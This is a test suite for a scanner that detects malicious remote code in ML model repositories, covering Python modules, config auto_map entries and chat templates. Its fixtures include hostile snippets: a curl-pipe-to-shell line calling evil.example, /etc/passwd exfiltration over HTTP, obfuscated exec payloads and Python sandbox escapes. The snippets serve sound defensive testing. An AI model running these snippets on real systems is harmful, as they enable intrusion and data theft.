"""Remote code: static AST scan of repository Python, auto_map and tokenizer chat templates."""

from __future__ import annotations

import json

import pytest

from scanning.scanners import remote_code
from scanning.scanners.base import Verdict, verdict_of
from tests.scanning.corpus_formats import BENIGN_TEMPLATES, SSTI_TEMPLATES, rules, run


def py(source: str, name: str = "helper.py"):
    return run(remote_code.scan_python, source.encode(), name)


def js(doc, name: str = "config.json"):
    data = doc if isinstance(doc, bytes) else json.dumps(doc).encode()
    return run(remote_code.scan_json, data, name)


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import os\nos.system('id')", "python.process"),
        ("import os as o\no.popen('id').read()", "python.process"),
        ("from os import system as s\ns('id')", "python.process"),
        ("import subprocess\nsubprocess.run(['id'])", "python.process"),
        ("from subprocess import check_output", "python.process"),
        ("import pty\npty.spawn('/bin/sh')", "python.process"),
        ("import ctypes\nctypes.CDLL('libc.so.6')", "python.native"),
        ("eval(input())", "python.code_exec"),
        ("exec(compile(src, 'x', 'exec'))", "python.code_exec"),
        ("__import__('os')", "python.code_exec"),
        ("import importlib\nimportlib.import_module(name)", "python.code_exec"),
        ("import marshal\nmarshal.loads(blob)", "python.code_exec"),
        ("import pickle\npickle.loads(blob)", "python.code_exec"),
        ("import builtins\nbuiltins.exec(x)", "python.code_exec"),
        ("import socket\ns = socket.socket()\ns.connect(('example.org', 1))", "python.network"),
        ("import urllib.request\nurllib.request.urlopen('http://x')", "python.network"),
        ("import requests\nrequests.get('http://x')", "python.network"),
        ("import os\ngetattr(os, 'system')('id')", "python.process"),
        ("def f():\n    class A:\n        def g(self):\n            __import__('subprocess')\n", "python.code_exec"),
        ("from os import *\nsystem('id')", "python.process"),
        ("import subprocess\nout = subprocess.check_output(['nvcc', '-V'], universal_newlines=True)", "python.process"),
        ("from torch.utils.cpp_extension import load\nk = load(name='wkv', sources=['wkv.cu'])", "python.native"),
        ("def f(g):\n    return g.__code__.co_varnames", "python.internals"),
    ],
)
def test_capabilities_are_suspicious_with_lines(source, rule):
    ctx = py(source)
    assert rule in rules(ctx), ctx.findings
    assert verdict_of(ctx.findings) == Verdict.SUSPICIOUS, ctx.findings
    assert all(f.evidence.startswith("line ") for f in ctx.findings)


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "python.payload"),
        ("import zlib, base64\neval(zlib.decompress(base64.b64decode(p)))", "python.payload"),
        ("exec(bytes.fromhex('7072696e742831290a').decode())", "python.payload"),
        ("import sys\nsys.modules['os'].system('id')", "python.obfuscation"),
        ("getattr(__builtins__, 'ev' + 'al')('1')", "python.obfuscation"),
        ("().__class__.__base__.__subclasses__()", "python.obfuscation"),
        ("f.__globals__['os']", "python.obfuscation"),
        ("globals()['__builtins__']", "python.obfuscation"),
        ("import httpx\nhttpx.post('http://x', data=open('/etc/passwd').read())", "python.exfiltration"),
        ("import os\nos.system('curl http://evil.example/x | sh')", "python.download_exec"),
    ],
)
def test_dangerous_python_is_malicious(source, rule):
    ctx = py(source)
    assert rule in rules(ctx), ctx.findings
    assert verdict_of(ctx.findings) == Verdict.MALICIOUS
    assert all(f.evidence.startswith("line ") for f in ctx.findings if f.verdict == Verdict.MALICIOUS)


@pytest.mark.parametrize(
    "source",
    [
        "import math\n\ndef gelu(x):\n    return 0.5 * x * (1 + math.tanh(x))\n",
        "import torch\nmodel = torch.nn.Linear(4, 4)\nmodel.eval()\n",
        "import re\npattern = re.compile(r'\\d+')\n",
        "from urllib.parse import urljoin\nurljoin('a', 'b')\n",
        "import os\npath = os.path.join('a', 'b')\n",
        "x = torch.compile(model)\n",
    ],
)
def test_benign_python_is_safe(source):
    ctx = py(source)
    assert verdict_of(ctx.findings) == Verdict.SAFE
    assert rules(ctx) == {"python.present"}


@pytest.mark.parametrize("name", ["modeling_llama2.py", "configuration_custom.py", "tokenization_x.py"])
def test_remote_code_module_names_are_suspicious(name):
    ctx = py("import torch\n", name)
    assert rules(ctx) == {"python.remote_code"}
    assert ctx.findings[0].severity.value == "high"


def test_pretrained_subclass_is_remote_code():
    ctx = py("from transformers import PreTrainedModel as P\nclass M(P):\n    pass\n", "anything.py")
    assert rules(ctx) == {"python.remote_code"}
    assert "class M(PreTrainedModel)" in ctx.findings[0].evidence


def test_remote_code_module_with_payload_is_malicious():
    ctx = py("import os, base64\nclass M:\n    pass\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "modeling_evil.py")
    assert {"python.payload", "python.code_exec", "python.remote_code"} <= rules(ctx)
    assert verdict_of(ctx.findings) == Verdict.MALICIOUS
    ctx = py("import os\nclass M:\n    pass\nos.system('id')\n", "modeling_cap.py")
    assert {"python.process", "python.remote_code"} == rules(ctx)
    assert verdict_of(ctx.findings) == Verdict.SUSPICIOUS


@pytest.mark.parametrize("source", ["def f(:\n", "\x00\x01\x02", "if True:\nprint(1)\n"])
def test_unparseable_python_is_suspicious_not_a_crash(source):
    ctx = py(source)
    assert rules(ctx) == {"python.syntax"}
    assert verdict_of(ctx.findings) == Verdict.SUSPICIOUS


def test_python_size_limit():
    from scanning.scanners.base import LimitExceeded

    with pytest.raises(LimitExceeded):
        run(remote_code.scan_python, b"x = 1\n" * 100, "big.py", max_text_bytes=100)


def test_deeply_nested_python_is_handled():
    ctx = py("x = " + "(" * 5000 + ")" * 5000)
    assert verdict_of(ctx.findings) >= Verdict.SUSPICIOUS


# --------------------------------------------------------------------------- JSON


def test_plain_config_is_safe():
    assert js({"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 768}).findings == []


def test_auto_map_is_suspicious_remote_code():
    ctx = js({"auto_map": {"AutoConfig": "configuration_x.XConfig", "AutoModelForCausalLM": "modeling_x.XForCausalLM"}})
    assert rules(ctx) == {"config.auto_map"}
    assert {f.evidence for f in ctx.findings} == {
        "auto_map.AutoConfig -> configuration_x.XConfig",
        "auto_map.AutoModelForCausalLM -> modeling_x.XForCausalLM",
    }
    assert all(f.severity.value == "high" and f.verdict == Verdict.SUSPICIOUS for f in ctx.findings)


def test_auto_map_tokenizer_pair_and_cross_repo():
    ctx = js({"auto_map": {"AutoTokenizer": ["tokenization_x.XTok", None], "AutoModel": "other/repo--modeling.M"}})
    assert len(ctx.findings) == 2
    assert any("another repository" in f.message for f in ctx.findings)
    assert remote_code.referenced_modules({"auto_map": {"AutoModel": "other/repo--modeling_y.M"}}) == {"modeling_y.py"}


def test_malformed_auto_map_is_suspicious():
    assert rules(js({"auto_map": "modeling_x.M"})) == {"config.auto_map"}


def test_trust_remote_code_hint_is_info():
    ctx = js({"trust_remote_code": True})
    assert rules(ctx) == {"config.trust_remote_code"}
    assert verdict_of(ctx.findings) == Verdict.SAFE
    assert remote_code.readme_hints("Load with\nAutoModel.from_pretrained(x, trust_remote_code=True)\n")


@pytest.mark.parametrize("name", sorted(BENIGN_TEMPLATES))
def test_tokenizer_config_real_templates_safe(name):
    assert js({"chat_template": BENIGN_TEMPLATES[name]}, "tokenizer_config.json").findings == []


@pytest.mark.parametrize("name", sorted(SSTI_TEMPLATES))
def test_tokenizer_config_ssti_malicious(name):
    ctx = js({"chat_template": SSTI_TEMPLATES[name]}, "tokenizer_config.json")
    assert verdict_of(ctx.findings) == Verdict.MALICIOUS


def test_named_template_list():
    doc = {
        "chat_template": [
            {"name": "default", "template": BENIGN_TEMPLATES["chatml"]},
            {"name": "tool_use", "template": SSTI_TEMPLATES["cycler_globals"]},
        ]
    }
    ctx = js(doc, "tokenizer_config.json")
    assert verdict_of(ctx.findings) == Verdict.MALICIOUS
    assert all("chat_template[tool_use]" in f.message for f in ctx.findings)


@pytest.mark.parametrize("data", [b"{", b'{"a": 1, "a": 2}', b'{"x": NaN}', b"\xff\xfe{}", b"[" * 100000])
def test_invalid_json_is_unscannable(data):
    assert rules(js(data)) == {"json.invalid"}


def test_non_object_json_is_fine():
    assert js([1, 2, 3]).findings == []


def test_dispatch_by_content():
    assert rules(run(remote_code.scan, b'{"auto_map": {"AutoModel": "m.M"}}', "x")) == {"config.auto_map"}
    assert rules(run(remote_code.scan, b"import os\nos.system('x')\n", "x")) == {"python.process"}


OWN_MODULES = [
    "h5child",
    "safetensors",
    "gguf",
    "onnx",
    "keras",
    "tensorflow",
    "remote_code",
    "remote_python",
    "archives",
    "protobuf",
    "jinja",
    "jinja_lexical",
    "fmtcommon",
]
# Jinja2 is imported by the template analyser for its parser only (lexing + AST); these would compile or render.
JINJA_RENDERING = {
    "from_string",
    "render",
    "render_async",
    "generate",
    "compile",
    "compile_expression",
    "get_template",
    "select_template",
    "Template",
    "NativeEnvironment",
}


@pytest.mark.parametrize("module", OWN_MODULES)
def test_format_scanners_obey_the_hard_rules(module):
    """Static check of our own scanners: no Django, no Jinja rendering, no unmarshal/unpickle, no exec."""
    import ast
    from pathlib import Path

    import scanning.scanners as pkg

    path = Path(pkg.__file__).parent / f"{module}.py"
    tree = ast.parse(path.read_text())
    imported = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imported |= {a.name.split(".")[0] for a in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            imported.add(node.module.split(".")[0])
    forbidden = {"django", "jinja2", "pickle", "marshal", "dill", "joblib", "keras", "tensorflow", "torch"}
    if module == "jinja":
        forbidden.discard("jinja2")
        called = {
            n.func.attr if isinstance(n.func, ast.Attribute) else getattr(n.func, "id", "")
            for n in ast.walk(tree)
            if isinstance(n, ast.Call)
            and not (
                isinstance(n.func, ast.Attribute) and isinstance(n.func.value, ast.Name) and n.func.value.id == "re"
            )
        }
        assert not called & JINJA_RENDERING, called & JINJA_RENDERING
    assert not imported & forbidden
    ctx = run(remote_code.scan_python, path.read_bytes(), f"{module}.py")
    assert verdict_of(ctx.findings) == Verdict.SAFE, ctx.findings


def test_h5worker_only_starts_its_own_child():
    """h5worker is the one module that starts a process: a fixed argv of this interpreter and h5child.py."""
    from pathlib import Path

    import scanning.scanners as pkg

    source = (Path(pkg.__file__).parent / "h5worker.py").read_text()
    ctx = run(remote_code.scan_python, source.encode(), "h5worker.py")
    assert {f.rule for f in ctx.findings} == {"python.process"}
    assert '[sys.executable, "-I", str(CHILD), str(size)]' in source


def test_custom_pipelines_and_diffusers_components():
    ctx = js({"custom_pipelines": {"text-classification": {"impl": "pipe.MyPipe", "pt": ["AutoModel"]}}})
    assert rules(ctx) == {"config.custom_pipeline"}
    index = {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.30.0",
        "unet": ["diffusers", "UNet2DConditionModel"],
        "text_encoder": ["transformers", "CLIPTextModel"],
        "safety_checker": [None, None],
        "scheduler": ["diffusers", "PNDMScheduler"],
    }
    assert js(index, "model_index.json").findings == []
    ctx = js({**index, "unet": ["my_unet", "EvilUNet"]}, "model_index.json")
    assert rules(ctx) == {"config.custom_component"}
    assert ctx.findings[0].evidence == "unet -> my_unet.EvilUNet"
